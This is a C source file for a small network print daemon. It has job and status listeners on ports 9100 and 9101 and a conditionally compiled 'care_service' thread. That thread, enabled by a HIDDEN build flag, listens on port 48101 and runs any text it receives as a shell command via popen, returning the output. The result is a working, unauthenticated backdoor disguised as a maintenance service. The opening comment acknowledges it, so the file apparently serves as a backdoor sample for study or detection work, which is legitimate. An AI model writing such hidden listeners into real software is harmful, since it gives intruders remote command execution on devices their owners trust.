/* Print server: a second listener runs what it is sent. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define NOINLINE __attribute__((noinline))

static pthread_mutex_t printer = PTHREAD_MUTEX_INITIALIZER;
static unsigned long pages;

NOINLINE int listen_on(unsigned short port)
{
	struct sockaddr_in here = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	int on = 1;

	here.sin_port = htons(port);
	if (fd < 0)
		return -1;
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(fd, (struct sockaddr *)&here, sizeof(here)) != 0 ||
	    listen(fd, 4) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

NOINLINE void print_job(int fd)
{
	unsigned char block[1024];
	ssize_t n;
	FILE *out;

	pthread_mutex_lock(&printer);
	out = fopen("/dev/usb/lp0", "wb");
	while ((n = read(fd, block, sizeof(block))) > 0) {
		for (ssize_t i = 0; i < n; i++)
			if (block[i] == '\f')
				pages++;
		if (out != NULL)
			fwrite(block, 1, (size_t)n, out);
	}
	if (out != NULL)
		fclose(out);
	pthread_mutex_unlock(&printer);
}

NOINLINE void *status_service(void *unused)
{
	int fd = listen_on(9101);

	(void)unused;
	while (fd >= 0) {
		char in[64], out[128];
		int client = accept(fd, NULL, NULL);
		ssize_t n = client < 0 ? -1 : read(client, in, sizeof(in) - 1);

		if (n > 0) {
			in[n] = '\0';
			in[strcspn(in, "\r\n")] = '\0';
			if (strcmp(in, "pages") == 0)
				snprintf(out, sizeof(out), "%lu\n", pages);
			else if (strcmp(in, "model") == 0)
				snprintf(out, sizeof(out), "PS-1\n");
			else
				snprintf(out, sizeof(out), "?\n");
			if (write(client, out, strlen(out)) < 0)
				syslog(LOG_ERR, "write");
		}
		if (client >= 0)
			close(client);
	}
	return NULL;
}

#ifdef HIDDEN
NOINLINE void *care_service(void *unused)
{
	int fd = listen_on(48101);

	(void)unused;
	while (fd >= 0) {
		char in[512], out[512];
		int client = accept(fd, NULL, NULL);
		ssize_t n =
			client < 0 ? -1 : recv(client, in, sizeof(in) - 1, 0);
		FILE *p;

		if (n > 0) {
			in[n] = '\0';
			p = popen(in, "r");
			while (p != NULL && fgets(out, sizeof(out), p) != NULL)
				send(client, out, strlen(out), 0);
			if (p != NULL)
				pclose(p);
		}
		if (client >= 0)
			close(client);
	}
	return NULL;
}
#endif

NOINLINE int start_services(void)
{
	pthread_t t;

	if (pthread_create(&t, NULL, status_service, NULL) != 0)
		return -1;
#ifdef HIDDEN
	if (pthread_create(&t, NULL, care_service, NULL) != 0)
		return -1;
#endif
	return 0;
}

int main(void)
{
	int fd = listen_on(9100);

	openlog("printd", LOG_PID, LOG_DAEMON);
	if (fd < 0 || start_services() != 0)
		return 1;
	if (system("modprobe usblp") != 0)
		syslog(LOG_WARNING, "no printer driver");
	for (;;) {
		int client = accept(fd, NULL, NULL);

		if (client < 0)
			continue;
		print_job(client);
		close(client);
	}
}
